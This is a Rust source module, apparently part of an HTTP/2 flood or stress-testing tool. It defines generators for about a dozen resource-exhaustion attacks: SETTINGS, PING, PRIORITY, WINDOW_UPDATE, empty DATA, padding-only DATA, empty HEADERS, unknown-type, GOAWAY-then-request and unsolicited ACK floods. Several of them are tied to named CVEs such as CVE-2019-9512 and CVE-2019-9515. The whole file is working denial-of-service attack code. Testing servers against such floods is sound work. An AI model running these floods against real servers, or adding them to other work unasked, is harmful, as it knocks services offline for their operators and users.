//! Floods of frames that carry nothing: each is allowed, and costs its reader more than its sender.

use super::{Flood, get, post, stream_id};
use crate::frames::{END_HEADERS, END_STREAM, Frame, PADDED, hpack::Block, kind, setting};

/// SETTINGS flood (CVE-2019-9515): each must be acknowledged.
#[derive(Debug)]
pub struct Settings;

impl Flood for Settings {
    fn name(&self) -> &'static str {
        "SETTINGS flood"
    }

    fn wave(&self, n: u32, _: &str) -> Vec<Frame> {
        // Another window each time, which touches every open stream.
        vec![Frame::settings(&[(
            setting::INITIAL_WINDOW_SIZE,
            1000 + n % 2,
        )])]
    }
}

/// Empty SETTINGS: the cheapest of them.
#[derive(Debug)]
pub struct EmptySettings;

impl Flood for EmptySettings {
    fn name(&self) -> &'static str {
        "empty SETTINGS flood"
    }

    fn wave(&self, _: u32, _: &str) -> Vec<Frame> {
        vec![Frame::settings(&[])]
    }
}

/// PING flood (CVE-2019-9512): each must be answered.
#[derive(Debug)]
pub struct Ping;

impl Flood for Ping {
    fn name(&self) -> &'static str {
        "PING flood"
    }

    fn wave(&self, n: u32, _: &str) -> Vec<Frame> {
        vec![Frame::ping(0, u64::from(n).to_be_bytes())]
    }
}

/// PRIORITY flood (CVE-2019-9513): streams that are shuffled and never opened.
#[derive(Debug)]
pub struct Priority;

impl Flood for Priority {
    fn name(&self) -> &'static str {
        "PRIORITY flood"
    }

    fn wave(&self, n: u32, _: &str) -> Vec<Frame> {
        vec![Frame::priority(stream_id(n % 1000) + 2, 1)]
    }
}

/// WINDOW_UPDATE flood: the connection's window is opened by one byte, and one byte, and one byte.
#[derive(Debug)]
pub struct WindowUpdates;

impl Flood for WindowUpdates {
    fn name(&self) -> &'static str {
        "WINDOW_UPDATE flood"
    }

    fn wave(&self, _: u32, _: &str) -> Vec<Frame> {
        vec![Frame::window_update(0, 1)]
    }
}

/// Empty DATA flood (CVE-2019-9518): a body of nothing that does not end.
#[derive(Debug)]
pub struct EmptyData;

impl Flood for EmptyData {
    fn name(&self) -> &'static str {
        "empty DATA flood"
    }

    fn opening(&self, host: &str) -> Vec<Frame> {
        vec![post(0, host)]
    }

    fn wave(&self, _: u32, _: &str) -> Vec<Frame> {
        vec![Frame::data(stream_id(0), 0, [])]
    }
}

/// DATA that is all padding: as empty, and it uses up the window.
#[derive(Debug)]
pub struct PaddingOnly;

impl Flood for PaddingOnly {
    fn name(&self) -> &'static str {
        "padding flood"
    }

    fn opening(&self, host: &str) -> Vec<Frame> {
        vec![post(0, host)]
    }

    fn wave(&self, _: u32, _: &str) -> Vec<Frame> {
        const PADDING: u8 = 10;
        let mut payload = vec![PADDING];
        payload.resize(1 + usize::from(PADDING), 0);
        vec![Frame::data(stream_id(0), PADDED, payload)]
    }
}

/// Empty HEADERS flood: requests without a single field.
#[derive(Debug)]
pub struct EmptyHeaders;

impl Flood for EmptyHeaders {
    fn name(&self) -> &'static str {
        "empty HEADERS flood"
    }

    fn wave(&self, n: u32, _: &str) -> Vec<Frame> {
        vec![Frame::headers(
            stream_id(n),
            END_HEADERS | END_STREAM,
            Block::new(),
        )]
    }
}

/// Frames of a type that nobody knows, which must be ignored.
#[derive(Debug)]
pub struct UnknownFrames;

impl Flood for UnknownFrames {
    fn name(&self) -> &'static str {
        "unknown frames flood"
    }

    fn wave(&self, _: u32, _: &str) -> Vec<Frame> {
        vec![Frame::new(0xfa, 0, 0, [])]
    }
}

/// GOAWAY again and again, and requests all the same.
#[derive(Debug)]
pub struct GoawayThenMore;

impl Flood for GoawayThenMore {
    fn name(&self) -> &'static str {
        "GOAWAY then more"
    }

    fn wave(&self, n: u32, host: &str) -> Vec<Frame> {
        vec![Frame::goaway(0, 0), get(n, host, "/")]
    }
}

/// Acknowledgements of settings that nobody sent.
#[derive(Debug)]
pub struct SettingsAcks;

impl Flood for SettingsAcks {
    fn name(&self) -> &'static str {
        "SETTINGS ACK flood"
    }

    fn wave(&self, _: u32, _: &str) -> Vec<Frame> {
        vec![Frame::settings_ack()]
    }
}

/// Answers to pings that nobody sent.
#[derive(Debug)]
pub struct Pongs;

impl Flood for Pongs {
    fn name(&self) -> &'static str {
        "PING ACK flood"
    }

    fn wave(&self, n: u32, _: &str) -> Vec<Frame> {
        vec![Frame::new(
            kind::PING,
            crate::frames::ACK,
            0,
            u64::from(n).to_be_bytes(),
        )]
    }
}
